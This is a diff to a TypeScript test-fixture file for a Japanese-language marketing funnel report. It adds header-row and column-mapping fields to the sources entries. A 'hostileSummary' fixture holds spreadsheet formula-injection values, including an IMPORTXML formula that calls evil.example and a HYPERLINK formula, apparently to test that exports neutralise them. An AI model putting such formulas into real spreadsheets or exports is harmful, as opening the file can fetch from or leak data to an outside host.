@@ -247,10 +247,11 @@ export function fullSummary(assumptions: { grossMargin: number; expectedPurchase
       { code: 'rate_difference', tone: 'good', message: '「展示会」の商談化率は 25.0% で、ほかのチャネルの 17.5% より高く、偶然では説明できない差です。' },
     ],
     sources: [
-      { tab: '広告', kind: 'ads', rowsRead: 90, rowsSkipped: 2 },
-      { tab: 'リード', kind: 'leads', rowsRead: 245, rowsSkipped: 5 },
-      { tab: 'メモ', kind: null, rowsRead: 0, rowsSkipped: 0 },
+      { tab: '広告', kind: 'ads', headerRow: 1, rowsRead: 90, rowsSkipped: 2, mapping: { date: '日付', cost: '費用' } },
+      { tab: 'リード', kind: 'leads', headerRow: 1, rowsRead: 245, rowsSkipped: 5, mapping: { created_date: '作成日' } },
+      { tab: 'メモ', kind: null, headerRow: null, rowsRead: 0, rowsSkipped: 0, mapping: {}, unusedReason: '見出しが見つからない' },
     ],
+    undatedTabs: [],
     warnings: [
       { tab: 'リード', row: 12, field: 'created_date', code: 'unparseable_date', message: `12行目（${PERSONAL_DATA}）の作成日が読めません` },
     ],
@@ -298,7 +299,8 @@ export function leadsOnlySummary(): FunnelSummary {
     email: [],
     notes: [],
     findings: [],
-    sources: [{ tab: 'Leads', kind: 'leads', rowsRead: 50, rowsSkipped: 0 }],
+    sources: [{ tab: 'Leads', kind: 'leads', headerRow: 1, rowsRead: 50, rowsSkipped: 0, mapping: { created_date: 'Create Date' } }],
+    undatedTabs: [],
     warnings: [],
   });
 }
@@ -349,6 +351,6 @@ export function hostileSummary(): FunnelSummary {
     scoreBands: [band('=1+1', 10, 5, 1), band('-20', 20, 4, 0)],
     email: HOSTILE_NAMES.slice(0, 4).map((name, index) => email(name, 1000 * (index + 1), 100 * (index + 1), 10 * (index + 1))),
     findings: [{ code: 'rate_difference', tone: 'bad', message: '=HYPERLINK("http://x","y") の商談化率が全体と大きく違います。' }],
-    sources: [{ tab: '=IMPORTXML("http://evil.example","//a")', kind: 'ads', rowsRead: 3, rowsSkipped: 1 }],
+    sources: [{ tab: '=IMPORTXML("http://evil.example","//a")', kind: 'ads', headerRow: 1, rowsRead: 3, rowsSkipped: 1, mapping: {} }],
   };
 }
